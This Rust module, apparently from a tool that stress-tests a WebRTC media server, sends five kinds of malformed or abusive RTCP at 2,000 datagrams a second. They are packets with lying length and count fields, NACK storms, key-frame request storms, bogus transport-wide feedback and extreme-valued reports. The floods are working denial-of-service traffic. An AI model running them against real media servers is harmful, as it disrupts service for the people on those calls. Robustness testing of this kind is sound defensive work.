//! Attacks of a subscriber: RTCP that lies about its lengths, or asks for everything again and again.

use anyhow::Context as _;

use crate::{Facts, LENGTH, insider::Insider};

/// Datagrams a second.
const RATE: u64 = 2_000;
/// SSRC of our own reports.
const OWN: u32 = 77;

/// A packet of RTCP whose length is `words`, whatever its body is.
fn lying(count: u8, packet_type: u8, words: u16, body: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x80 | count, packet_type];
    packet.extend(words.to_be_bytes());
    packet.extend(body);
    packet
}

/// One whose length is right.
fn honest(count: u8, packet_type: u8, body: &[u8]) -> Vec<u8> {
    lying(count, packet_type, (body.len() / 4) as u16, body)
}

/// An empty receiver report: compounds begin with one.
fn report() -> Vec<u8> {
    honest(0, 201, &OWN.to_be_bytes())
}

/// Feedback of ours about a stream.
fn about(media: u32) -> Vec<u8> {
    [OWN.to_be_bytes(), media.to_be_bytes()].concat()
}

/// Counts and lengths that don't agree with what follows.
pub(crate) fn lying_counts(insider: &mut Insider) -> anyhow::Result<()> {
    let padded = {
        let mut packet = honest(0, 201, &[0, 0, 0, 77, 0, 0, 0, 200]);
        if let Some(first) = packet.first_mut() {
            *first |= 0x20;
        }
        packet
    };
    let lies = [
        // 31 blocks, of which none or one is there.
        honest(31, 201, &OWN.to_be_bytes()),
        honest(31, 200, &[0; 24 + 24]),
        honest(31, 203, &OWN.to_be_bytes()),
        honest(31, 202, &[0; 4]),
        // Longer than the datagram; shorter than its own header says.
        lying(1, 205, 0xffff, &about(1)),
        lying(4, 206, 300, &about(1)),
        honest(1, 205, &[0; 4]),
        honest(1, 206, &[]),
        honest(4, 206, &about(1)),
        padded,
        vec![0x41, 201, 0, 1, 0, 0, 0, 77],
        vec![0x81, 205, 0],
        // A transport-wide message of 65,535 packets without a chunk.
        honest(
            15,
            205,
            &[&about(1)[..], &[0, 0, 0xff, 0xff, 0, 0, 0, 0]].concat(),
        ),
        // An estimate about 255 streams.
        honest(
            15,
            206,
            &[&about(0)[..], b"REMB", &[255, 0xff, 0xff, 0xff]].concat(),
        ),
    ];
    while insider.may_go_on(LENGTH, RATE)? {
        let lie = lies.get(insider.sent() as usize % lies.len());
        insider.rtcp(&[report(), lie.context("in range")?.clone()].concat())?;
    }
    Ok(())
}

/// Asks for every number of each stream (`ssrcs=`), over and over.
pub(crate) fn nack_storm(insider: &mut Insider, facts: &Facts) -> anyhow::Result<()> {
    let streams = facts.numbers("ssrcs")?;
    let mut number = 0u16;
    while insider.may_go_on(LENGTH, RATE)? {
        let stream = streams.get(insider.sent() as usize % streams.len());
        let mut body = about(*stream.context("one at least")?);
        // 250 entries of 17 numbers each.
        for _ in 0..250 {
            body.extend(number.to_be_bytes());
            body.extend([0xff; 2]);
            // Also what was sent lately: numbers begin at 1 and are few in a short call.
            number = if number > 4_000 && fastrand::u8(..) != 0 {
                0
            } else {
                number.wrapping_add(17)
            };
        }
        insider.rtcp(&[report(), honest(1, 205, &body)].concat())?;
    }
    Ok(())
}

/// Asks for key frames of each stream (`ssrcs=`), in both ways to do so.
pub(crate) fn key_frame_storm(insider: &mut Insider, facts: &Facts) -> anyhow::Result<()> {
    let streams = facts.numbers("ssrcs")?;
    while insider.may_go_on(LENGTH, RATE)? {
        let mut compound = report();
        for stream in &streams {
            compound.extend(honest(1, 206, &about(*stream)));
        }
        let turn = insider.sent() as u8;
        let entries = streams
            .iter()
            .flat_map(|stream| [stream.to_be_bytes(), [turn, 0, 0, 0]].concat());
        let body: Vec<u8> = about(0).into_iter().chain(entries).collect();
        compound.extend(honest(4, 206, &body));
        insider.rtcp(&compound)?;
    }
    Ok(())
}

/// Transport-wide feedback about packets that were never sent, at times that never were.
pub(crate) fn arrival_nonsense(insider: &mut Insider, facts: &Facts) -> anyhow::Result<()> {
    let streams = facts.numbers("ssrcs")?;
    let mut chance = fastrand::Rng::with_seed(9);
    while insider.may_go_on(LENGTH, RATE)? {
        let stream = *streams.first().context("one at least")?;
        let mut body = about(stream);
        let claimed: u16 = if chance.bool() { 200 } else { chance.u16(..) };
        body.extend(chance.u16(..).to_be_bytes());
        body.extend(claimed.to_be_bytes());
        // Reference time and count of messages.
        body.extend(chance.u32(..).to_be_bytes());
        // Runs of 8,191 packets that came with a large delta; then deltas of eight seconds both ways.
        for _ in 0..8 {
            body.extend(0x5fff_u16.to_be_bytes());
        }
        for turn in 0..400u16 {
            let delta: u16 = if turn % 2 == 0 { 0x7fff } else { 0x8000 };
            body.extend(delta.to_be_bytes());
        }
        insider.rtcp(&[report(), honest(15, 205, &body)].concat())?;
    }
    Ok(())
}

/// Sender and receiver reports with extreme numbers, about every stream (`ssrcs=`) and about none.
pub(crate) fn report_nonsense(insider: &mut Insider, facts: &Facts) -> anyhow::Result<()> {
    let streams = facts.numbers("ssrcs")?;
    let mut chance = fastrand::Rng::with_seed(11);
    while insider.may_go_on(LENGTH, RATE)? {
        let mut blocks = Vec::new();
        for stream in &streams {
            blocks.extend(stream.to_be_bytes());
            blocks.extend(
                std::iter::repeat_with(|| [0, 0xff, 0x7f, 0x80][chance.usize(..4)]).take(20),
            );
        }
        let count = u8::try_from(streams.len())?.min(31);
        let mut sender = OWN.to_be_bytes().to_vec();
        sender.extend(std::iter::repeat_with(|| chance.u8(..)).take(20));
        sender.extend(&blocks);
        insider.rtcp(&honest(count, 200, &sender))?;
        let receiver = [&OWN.to_be_bytes()[..], &blocks].concat();
        insider.rtcp(&honest(count, 201, &receiver))?;
    }
    Ok(())
}
